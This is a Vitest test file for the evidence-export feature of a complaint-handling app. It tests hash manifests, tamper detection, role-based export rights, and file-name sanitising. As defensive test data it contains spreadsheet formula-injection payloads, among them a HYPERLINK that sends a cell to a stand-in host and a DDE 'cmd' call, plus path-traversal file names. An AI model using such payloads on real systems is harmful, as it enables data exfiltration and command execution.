import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { csvCell, safeFileName } from '../../electron/core/services/evidence/export';
import { minimalComplaint, openRegister, tempDir, type Register } from './harness';
import { withStaff } from './staff';
import { fixture, mustImport } from './evidenceHelpers';

// Imports hashed and fsynced, registers set up per test: seconds alone, 17–24 s beside other runs (vitest's default is 20 s).
vi.setConfig({ testTimeout: 120_000 });

let reg: Register;
let caseId: number;
let usb: string;
let stick: { dir: string; remove(): void };

beforeEach(async () => {
  reg = await openRegister();
  caseId = (await reg.must<{ id: number }>('cases.register', minimalComplaint())).id;
  // A folder outside the data folder, as a USB stick is.
  stick = tempDir('complaintdesk-usb-');
  usb = join(stick.dir, 'U盘');
  mkdirSync(usb);
});
afterEach(() => {
  reg.close();
  stick.remove();
});

describe('evidence.export', () => {
  it('copies the case’s evidence to a new folder with a manifest that sha256sum -c accepts, voided items left out', async () => {
    await mustImport(reg, { caseId, name: '现场 照片.jpg', kind: 'audiovisual', description: '现场拍摄，含"引号"' }, fixture('photo-exif.jpg'));
    await mustImport(reg, { caseId, name: '../../etc/录像.mp4', kind: 'audiovisual' }, fixture('clip.mp4'));
    const voided = await mustImport(reg, { caseId, name: '错传.m4a', kind: 'audiovisual' }, fixture('voice.m4a'));
    await reg.must('evidence.void', { id: voided.id, reason: '传错了' });

    const out = await reg.must<{ dir: string; files: number; manifest: string }>('evidence.export', { caseId, dir: usb });
    expect(out.files).toBe(2);
    expect(out.dir).toBe(join(usb, 'TS2026-00001-证据-20261123-0900'));
    expect(readdirSync(out.dir).sort()).toEqual(['001-现场 照片.jpg', '002-_.._etc_录像.mp4', 'SHA256SUMS', '证据清单.csv'].sort());
    // The standard tool, run the way anyone receiving the stick would.
    const check = execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: out.dir, encoding: 'utf8' });
    expect(check).toMatch(/001-现场 照片.jpg: OK/);
    expect(check).toMatch(/002-.*录像.mp4: OK/);
    const list = readFileSync(join(out.dir, '证据清单.csv'), 'utf8');
    expect(list.startsWith('\ufeff序号,文件名')).toBe(true);
    expect(list).toContain('视听资料');
    expect(list).toContain('"现场拍摄，含""引号"""');
    expect(list).not.toContain('错传');
    const c = await reg.must<{ events: { type: string; data: Record<string, unknown> }[] }>('cases.get', { id: caseId });
    expect(c.events.at(-1)).toMatchObject({ type: 'evidence_exported', data: { dir: out.dir, files: 2 } });

    // A second export the same minute goes beside the first, never over it.
    const again = await reg.must<{ dir: string }>('evidence.export', { caseId, dir: usb });
    expect(again.dir).toBe(`${out.dir}-2`);
  });

  it('stops, leaving no half export, when a file in the vault was altered', async () => {
    const a = await mustImport(reg, { caseId, name: 'a.jpg', kind: 'audiovisual' }, fixture('photo-exif.jpg'));
    const path = join(reg.dir, 'vault', a.sha256.slice(0, 2), a.sha256);
    const bytes = readFileSync(path);
    bytes[100] = bytes[100]! ^ 0xff;
    writeFileSync(path, bytes);
    expect(await reg.call('evidence.export', { caseId, dir: usb })).toMatchObject({ ok: false, error: { code: 'CONFLICT', message: expect.stringContaining('SHA-256 不符') } });
    expect(readdirSync(usb)).toEqual([]);
  });

  it('asks for a folder that exists, as a full path', async () => {
    await mustImport(reg, { caseId, name: 'a.jpg', kind: 'audiovisual' }, fixture('photo-exif.jpg'));
    expect(await reg.call('evidence.export', { caseId, dir: 'relative/dir' })).toMatchObject({ ok: false, error: { code: 'VALIDATION', fields: { dir: expect.any(String) } } });
    expect(await reg.call('evidence.export', { caseId, dir: join(usb, '不存在') })).toMatchObject({ ok: false, error: { code: 'VALIDATION', message: expect.stringContaining('找不到文件夹') } });
  });
});

describe('evidence.export, what it lets out', () => {
  it('writes names and descriptions that a spreadsheet would run as formulas as plain text (OWASP: a leading single quote)', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    await mustImport(reg, { caseId, name: `${formulas[0]}.jpg`, kind: 'audiovisual', description: formulas[1] }, fixture('photo-exif.jpg'));
    await mustImport(reg, { caseId, name: '=1+1.mp4', kind: 'audiovisual', description: formulas[3] }, fixture('clip.mp4'));
    const out = await reg.must<{ dir: string }>('evidence.export', { caseId, dir: usb });
    const rows = readFileSync(join(out.dir, '证据清单.csv'), 'utf8').slice(1).split('\r\n');
    // Every cell of the data rows: none starts with a character a spreadsheet reads as a formula.
    const cells = rows.slice(1).flatMap((r) => r.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []).map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(rows[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"").jpg"`);
    expect(rows[1]).toContain("'+1+cmd|' /C calc'!A0");
    expect(rows[2]).toContain("'=1+1.mp4");
    expect(rows[2]).toContain("'@SUM(A1:A9)");
    // The copies keep their names; only the spreadsheet cells are neutralised.
    expect(readdirSync(out.dir)).toContain('002-=1+1.mp4');
  });

  it('neutralises each character OWASP names, and leaves numbers and ordinary text alone', () => {
    for (const f of ['=1', '+1', '-1', '@x', '\tx', '\rx']) expect(csvCell(f)).toMatch(/^"?'/);
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell('电视屏幕-竖线')).toBe('电视屏幕-竖线');
    expect(csvCell('a,b')).toBe('"a,b"');
  });

  it('lets an investigator export only the cases assigned to them, and nobody into the data folder', async () => {
    const staff = await withStaff(reg);
    await mustImport(reg, { caseId, name: 'a.jpg', kind: 'audiovisual' }, fixture('photo-exif.jpg'));
    await staff.clerk.act(caseId, 'accept');
    const refused = await staff.investigator.call('evidence.export', { caseId, dir: usb });
    expect(refused).toMatchObject({ ok: false, error: { code: 'FORBIDDEN', message: expect.stringContaining('未指派给您，不能导出其证据') } });
    expect(readdirSync(usb)).toEqual([]);
    await staff.supervisor.act(caseId, 'assign', { userId: staff.investigator.user.id });
    expect((await staff.investigator.call('evidence.export', { caseId, dir: usb })).ok).toBe(true);
    expect((await staff.clerk.call('evidence.export', { caseId, dir: usb })).ok).toBe(true);

    const inside = join(reg.dir, 'U盘');
    mkdirSync(inside);
    expect(await reg.call('evidence.export', { caseId, dir: inside })).toMatchObject({ ok: false, error: { code: 'VALIDATION', fields: { dir: expect.stringContaining('数据文件夹') } } });
    expect(readdirSync(inside)).toEqual([]);
  });
});

describe('safeFileName', () => {
  it('never lets a user’s name become a path or a name Windows refuses', () => {
    expect(safeFileName('../../a.jpg', 'x')).toBe('_.._a.jpg');
    expect(safeFileName('C:\\Windows\\evil.exe', 'x')).toBe('C__Windows_evil.exe');
    expect(safeFileName('a\nb\u0000c?.jpg', 'x')).toBe('a_b_c_.jpg');
    expect(safeFileName(' .. ', '证据7')).toBe('证据7');
    expect([...safeFileName(`${'长'.repeat(200)}.mp4`, 'x')]).toHaveLength(84);
  });
});
